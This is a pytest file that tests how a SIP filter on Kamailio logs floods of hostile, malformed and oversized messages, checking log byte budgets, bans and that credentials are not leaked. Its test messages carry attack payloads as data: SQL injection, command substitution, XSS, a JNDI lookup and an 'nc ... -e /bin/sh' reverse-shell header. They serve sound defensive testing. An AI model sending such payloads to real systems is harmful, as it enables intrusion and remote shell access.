"""What a flood makes a real Kamailio write, to the decision log and to syslog, for what it received."""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness import ROOT, Server, exchange, request, status, wait_for

sys.path.insert(0, str(ROOT / "bench"))

import hostile
import meter

#: Bytes of the log that any second may take, by the policy's defaults: the budget, and 64 records of what is new in that second
#: from each of four workers (docs/limits.md).
BUDGET = 1_000_000
RECORD = 2048
WORKERS = 4
SECOND = BUDGET + WORKERS * 64 * RECORD

#: Bytes of syslog that a flood may take, whatever it is made of: a line a minute about each kind of failure.
SYSLOG = 4096

SECRET = "6629fae49393a05397450978507c4ef1"


def findings(number: int) -> bytes:
    """442 bytes in which many rules find something."""
    raw = request(
        uri="sip:a'or%201=1--@example.com",
        from_='"$(id)<script>" <sip:a@example.com>;tag=1',
        to='"{{7*7}}" <sip:b@example.com>',
        call_id=f"{number:x}",
        branch=f"z9hG4bK{number:x}",
        headers=(
            "User-Agent: ${jndi:ldap://a/b}",
            "X-A: |nc 192.0.2.1 99 -e /bin/sh",
            "Subject: ' UNION SELECT a FROM b--",
        ),
    )
    return raw.replace(b"Max-Forwards", b"X-Pad: " + b"." * (442 - len(raw) - 9) + b"\r\nMax-Forwards", 1)


def unreadable(number: int) -> bytes:
    """A header field without a colon, before credentials and 20 KB of text with line ends in it."""
    text = "a\r\n sipsieve: forged " * 900
    fields = (f'Authorization: Digest username="a", response="{SECRET}"', f"X-P: {text}")
    return request(headers=(f"Bad header {number}", *fields), call_id=f"u{number}")


def largest(number: int) -> bytes:
    """The largest datagram that every supported Kamailio reads, full of attacks."""
    fields = tuple(f"X-P{field}: {'<script>' * 20}\x01' or 1=1" for field in range(150))
    return request(headers=fields, call_id=f"l{number}")[:32_000]


#: By name: how the numberth message is made, how many there are, and how many bytes of the log each of its bytes may take while the
#: budget lasts.
FLOODS: dict[str, tuple[Callable[[int], bytes], int, float]] = {
    "hostile": (lambda number: hostile.hostile(number)[1], 1500, 4),
    "malformed": (lambda number: hostile.malformed(number)[1], 1500, 4),
    "many findings": (findings, 1500, RECORD / 442),
    "unreadable": (unreadable, 300, 0.2),
    "largest": (largest, 60, 0.1),
    "control bytes": (lambda number: request(from_='"' + "\x01\x02\x1f" * 90 + '" <sip:a@b>;tag=1'), 1500, 4),
    # What has 33 bytes, a second of it makes no more than the budget.
    "garbage": (lambda number: random.Random(number).randbytes(33), 1500, 45),
}


def flood(server: Server, messages: list[bytes], first: int = 0) -> int:
    """Sends each from an address of its own, and returns how many the server took."""
    before = meter.queue(server.port).dropped
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number, raw in enumerate(messages):
            address = struct.pack("!I", 0x7F400000 + first + number)
            info = struct.pack("@i4s4s", 0, address, address)
            sock.sendmsg([raw], [(socket.IPPROTO_IP, 8, info)], 0, ("127.0.0.1", server.port))
            if number % 8 == 0:
                time.sleep(0.001)
    return len(messages) - (meter.drained(server.port).dropped - before)


def written(server: Server) -> tuple[int, int, int, int]:
    """Messages accounted for; bytes of the log, of its longest record, and of its fullest second."""
    lines = server.log.read_bytes().splitlines(keepends=True)
    of_second: Counter[str] = Counter()
    messages = longest = 0
    for line in lines:
        record: dict[str, Any] = json.loads(line)
        of_second[record["@timestamp"][:19]] += len(line)
        longest = max(longest, len(line))
        if record["event"]["kind"] != "state":
            messages += record["event"].get("count", 1)
    return messages, sum(map(len, lines)), longest, max(of_second.values(), default=0)


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_writes_no_more_than_is_said_for_what_it_sends(tmp_path: Path, name: str) -> None:
    make, count, most = FLOODS[name]
    with Server(tmp_path, "[log]\nsummary_seconds = 1\n", workers=WORKERS) as server:
        messages = [make(number) for number in range(count)]
        before, said = server.log.stat().st_size, server.output.stat().st_size
        took = flood(server, messages)
        assert took > count // 10
        received = took * sum(map(len, messages)) / count
        wait_for(lambda: written(server)[0] == took, "every message accounted for", 30)
        _, size, longest, second = written(server)
        syslog = server.output.stat().st_size - said
        ratio = (size - before) / received
        print(
            f"{name}: {took} of {received / took:.0f} bytes, log {ratio:.2f}:1, {second} bytes a second, syslog {syslog}"
        )
        assert longest <= RECORD
        assert second <= SECOND
        assert ratio <= most
        assert syslog <= SYSLOG
        assert SECRET not in server.text() and "forged" not in server.text()
        assert status(exchange(server, request("OPTIONS"), source="127.20.0.1")) == 200


def test_beyond_the_budget_a_flood_of_all_kinds_writes_less_than_it_sends(tmp_path: Path) -> None:
    budget, workers = 20_000, 1
    policy = f"[bans]\nenabled = false\n[log]\nsummary_seconds = 10\nbytes_per_second = {budget}\n"
    with Server(tmp_path, policy, workers=workers) as server:
        makers = [make for make, _, _ in FLOODS.values()]
        began = time.time()
        took = size = 0
        # One source: what is counted of others has lines of its own, 248 an interval of each worker at the most.
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind(("127.21.0.1", 0))
            for number in range(3000):
                raw = makers[number % len(makers)](number)
                sock.sendto(raw, ("127.0.0.1", server.port))
                size += len(raw)
                if number % 4 == 0:
                    time.sleep(0.001)
        took = 3000 - meter.drained(server.port).dropped
        seconds = time.time() - began + 1
        wait_for(lambda: written(server)[0] == took, "every message accounted for", 40)
        _, log, _, second = written(server)
        print(f"{took} messages in {seconds:.1f} s, log {log / (size * took / 3000):.2f}:1, {second} bytes a second")
        assert second <= budget + workers * 65 * RECORD
        assert log < size * took / 3000


def test_banned_sources_that_go_on_have_a_line_an_interval(tmp_path: Path) -> None:
    policy = "[limits.malformed]\nper_minute = 1\n[log]\nsummary_seconds = 4\n"
    with Server(tmp_path, policy, workers=1) as server:
        garbage = b"INVITE sip:x SIP/2.0\r\nVia: ?\r\nX\r\n\r\n" + b"." * 40
        banned: set[str] = set()

        def drops() -> list[dict[str, Any]]:
            return [r for r in server.records("metric") if r["event"]["action"] == "banned"]

        def all_banned() -> bool:
            flood(server, [garbage] * 20)
            banned.update(r["ban"]["source"] for r in server.records() if "ban" in r)
            return len(banned) == 20

        wait_for(all_banned, "the bans", 20)
        garbage = b"x" * 33
        wait_for(lambda: all_banned() and {r["source"]["ip"] for r in drops()} == banned, "the first counts", 20)
        before, began = len(drops()), time.monotonic()

        def went_on() -> bool:
            all_banned()
            time.sleep(0.2)
            return time.monotonic() - began > 9

        wait_for(went_on, "nine seconds", 30)
        intervals = (time.monotonic() - began) / 4 + 1
        assert 20 <= len(drops()) - before <= 20 * intervals


@pytest.mark.parametrize("loud", [False, True])
def test_who_looks_for_a_fault_can_have_the_parsers_errors(tmp_path: Path, loud: bool) -> None:
    server = Server(tmp_path, workers=1)
    if loud:
        server.environment["SIPSIEVE_PARSER_ERRORS"] = "1"
    with server:
        flood(server, [request(headers=("CSeq: x y z",))])
        wait_for(lambda: written(server)[0] == 1, "the message accounted for")
        assert ("bad cseq" in server.text()) is loud


#: What a host's own routes say at the level of errors, of HTTP and of SIP.
SPEAKING = """#!KAMAILIO
#!trydefenv SIPSIEVE_LISTEN
#!trydefenvs SIPSIEVE_RUN
log_stderror=yes
children=1
tcp_children=1
tcp_accept_no_cl=yes
listen=SIPSIEVE_LISTEN
loadmodule "tm.so"
loadmodule "sl.so"
loadmodule "xhttp.so"
loadmodule "jsonrpcs.so"
include_file "{sipsieve}"
modparam("jsonrpcs", "transport", 2)
modparam("jsonrpcs", "fifo_name", SIPSIEVE_RUN "/sipsieve_rpc.fifo")
request_route {{
	xlog("L_ERR", "spoken of SIP\\n");
	sl_send_reply("200", "OK");
}}
event_route[xhttp:request] {{
	xlog("L_ERR", "spoken of $hu\\n");
	xhttp_reply("404", "Not Found", "text/plain", "none");
	xlog("L_ERR", "spoken behind $hu\\n");
}}
"""


def test_what_a_host_says_itself_is_kept_back_behind_no_kind_of_message(tmp_path: Path) -> None:
    """The level of syslog is a process's own: each of these is the last that this one reads before the host speaks."""
    config = tmp_path / "speaking.cfg"
    config.write_text(SPEAKING.format(sipsieve=ROOT / "kemi" / "sipsieve.cfg"))
    unread = [
        request(transport="TCP", headers=("CSeq: x y z",)),
        b"GET /odd HTTP/1.1\r\nHost: x\r\nno colon\r\n\r\n",
        b"no request at all\r\n\r\n",
    ]
    pages = {
        "page": b"GET /page HTTP/1.1\r\nHost: x\r\n\r\n",
        "form": b"POST /form HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\na=1",
    }
    with Server(tmp_path / "server", config=config, workers=1) as server:
        for data in unread:
            for name, page in pages.items():
                before = server.text().count(f"spoken behind /{name}")
                exchange(server, data, transport="tcp", seconds=0.2)
                exchange(server, page, transport="tcp", seconds=0.2)
                wait_for(lambda n=name, b=before: server.text().count(f"spoken behind /{n}") == b + 1, name)
                assert server.text().count(f"spoken of /{name}") == before + 1
        before = server.text().count("spoken of SIP")
        assert status(exchange(server, request(transport="TCP"), transport="tcp")) == 200
        assert server.text().count("spoken of SIP") == before + 1
        assert "x y z" not in server.text()
